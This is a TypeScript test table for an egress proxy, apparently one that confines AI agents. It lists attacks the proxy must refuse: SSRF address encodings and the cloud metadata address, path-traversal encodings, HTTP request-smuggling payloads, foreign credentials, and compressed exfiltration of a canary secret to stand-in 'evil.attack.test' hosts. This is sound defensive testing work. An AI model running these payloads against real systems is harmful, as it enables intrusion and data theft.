// The table of attempts against egress: what is sent, and which refusal must come of it. Where it is sent from is not its matter.
import { deflateSync, gzipSync } from "node:zlib";
import {
  type Attempt,
  type EgressAttack,
  type Expected,
  request,
} from "../support/egress-attack.ts";

export type Row = readonly [
  name: string,
  attempt: Attempt | ((attack: EgressAttack) => Attempt),
  expected: Expected | ((attack: EgressAttack) => Expected),
];

export const get = (url: string, host: string, ...lines: string[]): Attempt => ({
  bytes: request("GET", url, host, lines),
});
export const connect = (authority: string): Attempt => ({ tunnel: { authority }, bytes: "" });
export const within = (name: string, ...bytes: string[]): Attempt => ({
  tunnel: { authority: `${name}.attack.test:443` },
  bytes,
});
export const inside = (name: string, target = "/", ...lines: string[]): Attempt =>
  within(name, request("GET", target, `${name}.attack.test`, lines));

const DENIED = { status: 403, reason: "host-not-allowed" } as const;
const ADDRESS = { status: 403, reason: "address-forbidden" } as const;
/** The door is an address to some guests and a name to others. */
const DOOR = ({ door }: EgressAttack): Expected => (/^[\d.]+:/.test(door) ? ADDRESS : DENIED);
export const MALFORMED = { status: 400, reason: "bad-request" } as const;
const NO_NAME = { status: 400, reason: "bad-authority" } as const;
const FOREIGN = { status: 403, reason: "foreign-credential", kind: "request" } as const;

// biome-ignore format: one attempt a line
export const HOSTS: readonly Row[] = [
  ["an ungranted host, by CONNECT", connect("evil.attack.test:443"), { ...DENIED, kind: "connect" }],
  ["an ungranted host, by plain http", get("http://evil.attack.test/", "evil.attack.test"), { ...DENIED, kind: "request" }],
  ["an ungranted host, dot at its end", connect("evil.attack.test.:443"), DENIED],
  ["a granted host on another port", connect("api.attack.test:8443"), DENIED],
  ["a granted host on port 22", connect("open.attack.test:22"), DENIED],
  ["a granted host on 443 without TLS", get("http://open.attack.test:443/", "open.attack.test:443"), DENIED],
  ["a label in front of a granted host", connect("x.open.attack.test:443"), DENIED],
  ["a granted host as a prefix", connect("open.attack.test.evil.test:443"), DENIED],
  ["a granted host as a suffix of a label", connect("evilopen.attack.test:443"), DENIED],
  ["localhost", connect("localhost:443"), DENIED],
  ["localhost with a dot", get("http://localhost./", "localhost."), DENIED],
  ["the proxy itself, by name", get("http://egress:9099/", "egress:9099"), DENIED],
  ["the proxy itself, by address", get("http://127.0.0.1:9099/", "127.0.0.1:9099"), ADDRESS],
  ["the proxy itself, by CONNECT", connect("egress:9099"), DENIED],
  ["the proxy without a proxy request", get("/", "127.0.0.1:9099"), MALFORMED],
  ["the metadata service by name", connect("metadata.google.internal:443"), DENIED],
  ["a NUL in the name", connect("open.attack.test\0.evil.test:443"), MALFORMED],
  ["a user before the name", connect("open.attack.test@evil.attack.test:443"), NO_NAME],
  ["a percent-encoded name", connect("%65vil.attack.test:443"), NO_NAME],
  ["a wide dot in the name", connect("open\xe3\x80\x82attack\xe3\x80\x82test:443"), MALFORMED],
  ["an empty port", connect("open.attack.test:"), NO_NAME],
  ["two ports", connect("open.attack.test:443:443"), NO_NAME],
  ["port 0", connect("open.attack.test:0"), NO_NAME],
  ["no name", connect(":443"), NO_NAME],
  ["a line break in the name", connect("open.attack.test\r\nX-A: 1\r\nX-B: y:443"), MALFORMED],
  ["a bare line feed in the name", connect("open.attack.test\nevil.attack.test:443"), MALFORMED],
  ["an encoded line break in the name", connect("open.attack.test%0d%0aevil.attack.test:443"), NO_NAME],
  ["a tab in the name", connect("open.attack.test\t:443"), MALFORMED],
  ["a name that only a foreign alphabet makes equal", connect("xn--pen-kza.attack.test:443"), DENIED],
  ["hosts that agents often need, which nobody granted", connect("registry.npmjs.org:443"), DENIED],
  ["a provider's host, which nobody granted", connect("api.anthropic.com:443"), DENIED],
  ["a resolver over https", connect("dns.google:443"), DENIED],
  ["a resolver over https, by plain http", get("http://cloudflare-dns.com/dns-query", "cloudflare-dns.com"), DENIED],
  ["a resolver over TLS", connect("dns.google:853"), DENIED],
  ["a resolver over TLS, by its address", connect("1.1.1.1:853"), ADDRESS],
  ["a granted host's own address and port", ({ sink }) => connect(`127.0.0.1:${sink.httpsPort}`), ADDRESS],
  ["the door itself, as the guest knows it", ({ door }) => connect(door), DOOR],
  ["the door itself, by plain http", ({ door }) => get(`http://${door}/`, door), DOOR],
];

export const ADDRESSES: readonly [string, Expected][] =
  "127.0.0.1 127.1 2130706433 0x7f000001 0x7f.1 0177.0.0.1 017700000001 127.0.0.1. 0 0.0.0.0 169.254.169.254 2852039166 0xa9fea9fe 10.0.0.1 172.16.0.1 192.168.0.1 100.64.0.1 198.18.0.1 224.0.0.1 255.255.255.255 93.184.216.34 [::1] [::] [::ffff:127.0.0.1] [::ffff:7f00:1] [::127.0.0.1] [fe80::1] [fd00:ec2::254] [64:ff9b::7f00:1] [2002:7f00:1::] [ff02::1] [0:0:0:0:0:0:0:1]"
    .split(" ")
    .map((address) => [address, ADDRESS]);
export const BAD_ADDRESSES: readonly [string, Expected][] =
  "[fe80::1%25eth0] [::1 ::1 [v1.x] 127.0.0.256 0x7f.0x0.0x0.0x100 1.2.3.4.5 [127.0.0.1]"
    .split(" ")
    .map((address) => [address, NO_NAME]);

// biome-ignore format: one attempt a line
export const IDENTITY: readonly Row[] = [
  ["another server name than CONNECT's", { ...inside("open"), tunnel: { authority: "open.attack.test:443", servername: "evil.attack.test" } }, { status: undefined, reason: "authority-mismatch", kind: "connect" }],
  ["the server name of another granted host", { ...inside("open"), tunnel: { authority: "open.attack.test:443", servername: "api.attack.test" } }, { status: undefined, reason: "authority-mismatch" }],
  ["no server name", { ...inside("open"), tunnel: { authority: "open.attack.test:443", servername: "" } }, { status: undefined, reason: "authority-mismatch" }],
  ["another Host than CONNECT's", within("open", request("GET", "/", "evil.attack.test")), { status: 403, reason: "authority-mismatch", kind: "request" }],
  ["the Host of a granted host with a credential", within("open", request("GET", "/", "api.attack.test")), { status: 403, reason: "authority-mismatch" }],
  ["the Host with another port", within("open", request("GET", "/", "open.attack.test:8443")), { status: 403, reason: "authority-mismatch" }],
  ["two Hosts", within("open", request("GET", "/", "open.attack.test", ["Host: evil.attack.test"])), MALFORMED],
  ["no Host", within("open", "GET / HTTP/1.1\r\nConnection: close\r\n\r\n"), MALFORMED],
  ["no Host, HTTP/1.0", within("open", "GET / HTTP/1.0\r\n\r\n"), MALFORMED],
  ["a URL of another host inside a tunnel", within("open", request("GET", "https://evil.attack.test/", "open.attack.test")), MALFORMED],
  ["a URL of another host and its Host inside a tunnel", within("open", request("GET", "http://evil.attack.test/", "evil.attack.test")), { status: 403, reason: "authority-mismatch" }],
  ["a Host that differs from the URL's", get("http://plain.attack.test/", "evil.attack.test"), { status: 403, reason: "authority-mismatch" }],
  ["a URL with a user", get("http://plain.attack.test@evil.attack.test/", "evil.attack.test"), NO_NAME],
  ["a URL with a backslash", get("http://plain.attack.test\\@evil.attack.test/", "plain.attack.test"), MALFORMED],
  ["an https URL without CONNECT", get("https://open.attack.test/", "open.attack.test"), MALFORMED],
  ["an ftp URL", get("ftp://open.attack.test/", "open.attack.test"), MALFORMED],
  ["a file URL", get("file:///etc/passwd", "open.attack.test"), MALFORMED],
  ["CONNECT inside a tunnel", within("open", "CONNECT evil.attack.test:443 HTTP/1.1\r\nHost: evil.attack.test:443\r\n\r\n"), MALFORMED],
  ["CONNECT and then no TLS", { tunnel: { authority: "open.attack.test:443", isPlain: true }, bytes: request("GET", "/", "open.attack.test") }, { ...MALFORMED, kind: "connect" }],
  ["CONNECT and then ssh", { tunnel: { authority: "open.attack.test:443", isPlain: true }, bytes: "SSH-2.0-OpenSSH_9.2\r\n" }, MALFORMED],
  ["a WebSocket", inside("open", "/", "Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: AAAA"), { status: 426, reason: "upgrade-refused" }],
  ["h2c by upgrade", inside("open", "/", "Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAAQAAP__"), { status: 403, reason: "upgrade-refused" }],
  ["any other upgrade", inside("open", "/", "Connection: Upgrade", "Upgrade: tcp"), { status: 403, reason: "upgrade-refused" }],
  ["HTTP/2 by prior knowledge, to the proxy", { bytes: "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" }, MALFORMED],
  ["HTTP/2 by prior knowledge, inside a tunnel", within("open", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), MALFORMED],
  ["TRACE", within("open", request("TRACE", "/", "open.attack.test")), MALFORMED],
  ["a path outside of matches", inside("narrow", "/other"), { status: 403, reason: "no-match" }],
  ["a path that only looks like one of matches", inside("narrow", "/okay"), { status: 403, reason: "no-match" }],
  ["a path out of matches by dots", inside("narrow", "/ok/../other"), MALFORMED],
  ["a path out of matches by encoded dots", inside("narrow", "/ok/%2e%2e/other"), MALFORMED],
  ["a path with an encoded slash", inside("narrow", "/ok%2f..%2fother"), MALFORMED],
  ["a path with a double encoding", inside("narrow", "/ok/%252e%252e/other"), MALFORMED],
  ["a path with a backslash", inside("narrow", "/ok/..\\other"), MALFORMED],
  ["a path out of matches by one dot", inside("narrow", "/./ok"), MALFORMED],
  ["a path with an empty segment", inside("narrow", "//ok"), MALFORMED],
  ["a path with an empty segment behind the prefix", inside("narrow", "/ok//other"), MALFORMED],
  ["a path whose segment has a parameter", inside("narrow", "/ok;x=1"), { status: 403, reason: "no-match" }],
  ["a path out of matches by a parameter with dots", inside("narrow", "/ok/..;/other"), MALFORMED],
  ["a path with an encoded NUL", inside("narrow", "/ok%00/other"), MALFORMED],
  ["a path in overlong UTF-8", inside("narrow", "/ok/%c0%ae%c0%ae/other"), MALFORMED],
  ["a path in other case", inside("narrow", "/OK"), { status: 403, reason: "no-match" }],
  ["a fragment in the path", inside("narrow", "/ok#/../other"), MALFORMED],
  ["another path in a header", inside("narrow", "/ok", "X-Original-URL: /other"), { status: 403, reason: "no-match" }],
  ["another method in a header", inside("narrow", "/ok", "X-HTTP-Method-Override: DELETE"), { status: 403, reason: "no-match" }],
  ["a method outside of matches", within("narrow", request("DELETE", "/ok", "narrow.attack.test")), { status: 403, reason: "no-match" }],
  ["a method override outside of matches", within("narrow", request("get", "/other", "narrow.attack.test")), { status: 400, reason: "bad-request" }],
];

const post = (...lines: string[]): string =>
  [`POST / HTTP/1.1`, "Host: open.attack.test", "Connection: close", ...lines, "", ""].join("\r\n");
const CHUNKED = "Transfer-Encoding: chunked";
/** What a smuggler hides behind the first request. */
export const HIDDEN = "GET /hidden HTTP/1.1\r\nHost: evil.attack.test\r\n\r\n";

/** A WebSocket's handshake as it should be. */
export const HANDSHAKE = [
  "Connection: Upgrade",
  "Upgrade: websocket",
  "Sec-WebSocket-Version: 13",
  "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
];

// biome-ignore format: one attempt a line
export const SMUGGLING: readonly (readonly [name: string, bytes: string])[] = [
  ["a length and chunks", `${post("Content-Length: 4", CHUNKED)}0\r\n\r\n${HIDDEN}`],
  ["chunks and a length", `${post(CHUNKED, "Content-Length: 4")}0\r\n\r\n${HIDDEN}`],
  ["two lengths", `${post("Content-Length: 0", "Content-Length: 50")}${HIDDEN}`],
  ["one length twice", `${post("Content-Length: 4", "Content-Length: 4")}abcd`],
  ["a list of lengths", `${post("Content-Length: 4, 4")}abcd`],
  ["a signed length", `${post("Content-Length: +4")}abcd`],
  ["a hexadecimal length", `${post("Content-Length: 0x4")}abcd`],
  ["a length with a blank before the colon", `${post("Content-Length : 4")}abcd`],
  ["chunks with a blank before the colon", `${post("Transfer-Encoding : chunked")}0\r\n\r\n`],
  ["chunks and something else", `${post("Transfer-Encoding: chunked, identity")}0\r\n\r\n`],
  ["gzip and chunks", `${post("Transfer-Encoding: gzip, chunked")}0\r\n\r\n`],
  ["xchunked", `${post("Transfer-Encoding: xchunked")}0\r\n\r\n`],
  ["chunked with a vertical tab", `${post("Transfer-Encoding: \x0bchunked")}0\r\n\r\n`],
  ["chunked twice", `${post(CHUNKED, CHUNKED)}0\r\n\r\n`],
  ["a folded header", `${post("X-A: 1", " Transfer-Encoding: chunked")}0\r\n\r\n${HIDDEN}`],
  ["chunks in HTTP/1.0", `${post(CHUNKED).replace("HTTP/1.1", "HTTP/1.0")}0\r\n\r\n`],
  ["a chunk size with a prefix", `${post(CHUNKED)}0x4\r\nabcd\r\n0\r\n\r\n`],
  ["a signed chunk size", `${post(CHUNKED)}+4\r\nabcd\r\n0\r\n\r\n`],
  ["a chunk that is longer than its size", `${post(CHUNKED)}4\r\nabcdefgh\r\n0\r\n\r\n`],
  ["a chunk size that overflows", `${post(CHUNKED)}10000000000000004\r\nabcd\r\n0\r\n\r\n`],
  ["chunks with bare line feeds", `${post(CHUNKED)}4\nabcd\n0\n\n`],
  ["bare line feeds", post("Content-Length: 0").replaceAll("\r\n", "\n")],
  ["a bare line feed in a header", `${post("X-A: 1\nX-B: 2", "Content-Length: 0")}`],
  ["a bare carriage return in a header", `${post("X-A: 1\rX-B: 2", "Content-Length: 0")}`],
  ["a NUL in a header", post("X-A: a\0b", "Content-Length: 0")],
  ["a header without a name", post(": x", "Content-Length: 0")],
  ["a header without a colon", post("nonsense", "Content-Length: 0")],
  ["a blank in a header's name", post("X A: 1", "Content-Length: 0")],
  ["a bad version", post("Content-Length: 0").replace("HTTP/1.1", "HTTP/1.7")],
  ["an empty line before the request", `\r\n${post("Content-Length: 0")}`],
  ["a blank in the target", post("Content-Length: 0").replace("POST / ", "POST /a b ")],
  ["a carriage return in the target", post("Content-Length: 0").replace("POST / ", "POST /a\rb ")],
  ["a NUL in the target", post("Content-Length: 0").replace("POST / ", "POST /a\0b ")],
  ["two blanks before the version", post("Content-Length: 0").replace(" HTTP/1.1", "  HTTP/1.1")],
  ["a line break in the method", post("Content-Length: 0").replace("POST", "PO\r\nST")],
  ["a negative length", `${post("Content-Length: -1")}abcd`],
  ["an empty length", `${post("Content-Length: ")}abcd`],
  ["a length that overflows", `${post("Content-Length: 18446744073709551620")}abcd`],
  ["a length and chunks in other case", `${post("content-length: 4", "transfer-encoding: Chunked")}0\r\n\r\n${HIDDEN}`],
  ["an empty list of codings", `${post("Transfer-Encoding: ")}0\r\n\r\n`],
  ["chunks, quoted", `${post('Transfer-Encoding: "chunked"')}0\r\n\r\n`],
  ["an empty chunk size", `${post(CHUNKED)}\r\nabcd\r\n0\r\n\r\n`],
  ["a chunk size with a blank before it", `${post(CHUNKED)} 4\r\nabcd\r\n0\r\n\r\n`],
  ["an extension of a chunk with a bare line feed", `${post(CHUNKED)}4;a\nb\r\nabcd\r\n0\r\n\r\n`],
  ["a chunk without its end", `${post(CHUNKED)}4\r\nabcd0\r\n\r\n${HIDDEN}`],
  ["a header block without end", post(`X-A: ${"a".repeat(70_000)}`)],
];

// biome-ignore format: one attempt a line
export const CREDENTIALS: readonly Row[] = [
  ["plain http to the port of https, on a route with a credential", get("http://api.attack.test:443/", "api.attack.test:443"), DENIED],
  ["plain http on a route with a credential", get("http://api.attack.test/", "api.attack.test"), { status: 403, reason: "plain-http-credential" }],
  ["another credential in Authorization", inside("api", "/", "Authorization: Bearer sk-attacker-000000000000"), FOREIGN],
  ["another scheme in Authorization", inside("api", "/", `Authorization: Basic ${Buffer.from("me:mine-000000").toString("base64")}`), FOREIGN],
  ["another credential in X-Api-Key", inside("api", "/", "X-Api-Key: sk-attacker-000000000000"), FOREIGN],
  ["another credential beside the placeholder", ({ env }) => inside("api", "/", `Authorization: Bearer ${env["API_TOKEN"]}`, "X-Api-Key: sk-attacker-0000"), FOREIGN],
  ["two Authorizations", ({ env }) => inside("api", "/", `Authorization: Bearer ${env["API_TOKEN"]}`, "Authorization: Bearer sk-attacker-0000"), FOREIGN],
  ["another credential in the declared header", inside("key", "/", "X-Service-Key: sk-attacker-000000000000"), FOREIGN],
  ["another credential in a header's other case", inside("key", "/", "x-SERVICE-key: sk-attacker-000000000000"), FOREIGN],
  ["another credential in the declared query field", inside("query", "/?service_key=sk-attacker-000000"), FOREIGN],
  ["another credential in the field, encoded", inside("query", "/?service%5Fkey=sk-attacker-000000"), FOREIGN],
  ["another credential beside the field", ({ env }) => inside("query", `/?service_key=${env["QUERY_TOKEN"]}&service_key=sk-attacker`), FOREIGN],
  ["another credential in access_token", inside("api", "/?access_token=sk-attacker-000000"), FOREIGN],
  ["another credential in Proxy-Authorization", inside("api", "/", "Proxy-Authorization: Bearer sk-attacker-0000"), FOREIGN],
  ["another credential in Api-Key", inside("api", "/", "Api-Key: sk-attacker-000000000000"), FOREIGN],
  ["another credential in X-Goog-Api-Key", inside("api", "/", "X-Goog-Api-Key: sk-attacker-000000000000"), FOREIGN],
  ["another credential in Private-Token", inside("api", "/", "Private-Token: sk-attacker-000000000000"), FOREIGN],
  ["the placeholder of another bottle", inside("api", "/", "Authorization: Bearer bot-bottle-placeholder-API_TOKEN-00000000"), FOREIGN],
  ["a placeholder at another host", ({ env }) => inside("open", "/", `Authorization: Bearer ${env["API_TOKEN"]}`), { status: 403, reason: "placeholder-elsewhere" }],
  ["a placeholder at another host's own carrier", ({ env }) => inside("key", "/", `X-Service-Key: ${env["API_TOKEN"]}`), { status: 403, reason: "placeholder-elsewhere" }],
  ["a placeholder in another host's query", ({ env }) => inside("open", `/?q=${env["KEY_TOKEN"]}`), { status: 403, reason: "placeholder-elsewhere" }],
  ["a placeholder in Basic at another host", ({ env }) => inside("open", "/", `Authorization: Basic ${Buffer.from(`x:${env["API_TOKEN"]}`).toString("base64")}`), { status: 403, reason: "placeholder-elsewhere" }],
  ["git push over https, the question", inside("git", "/r.git/info/refs?service=git-receive-pack"), { status: 403, reason: "git-push-refused" }],
  ["git push over https, the pack", within("git", request("POST", "/r.git/git-receive-pack", "git.attack.test", ["Content-Type: application/x-git-receive-pack-request"], "0000")), { status: 403, reason: "git-push-refused" }],
  ["git push, its name encoded", within("git", request("POST", "/r.git/git%2Dreceive-pack", "git.attack.test", [], "0000")), { status: 403, reason: "git-push-refused" }],
  ["git fetch where it was not granted", inside("open", "/r.git/info/refs?service=git-upload-pack"), { status: 403, reason: "git-fetch-refused" }],
];

/** The canary of the bottle, packed and written as text. */
function packedCanary({ env }: EgressAttack, pack: (text: string) => Buffer): string {
  const [, canary = ""] = Object.entries(env).find(([name]) => name.endsWith("_SECRET")) ?? [];
  if (canary.length < 24) throw new Error("the bottle has no canary");
  return pack(`some words and ${canary} and more`).toString("base64url");
}
const twice = (text: string): Buffer => Buffer.concat([gzipSync("words"), deflateSync(text)]);
const FOUND: Expected = { status: 403, reason: "secret-found" };
const sent = (body: string): Attempt =>
  within("open", request("POST", "/", "open.attack.test", [], body));

// biome-ignore format: one attempt a line
export const PACKED: readonly Row[] = [
  ["gzip in base64 in JSON", (it) => sent(`{"a":"${packedCanary(it, gzipSync)}"}`), FOUND],
  ["zlib in base64", (it) => sent(packedCanary(it, deflateSync)), FOUND],
  ["a second stream behind the first, in base64", (it) => sent(packedCanary(it, twice)), FOUND],
  ["gzip in base64 in the query", (it) => inside("open", `/?q=${packedCanary(it, gzipSync)}`), FOUND],
];
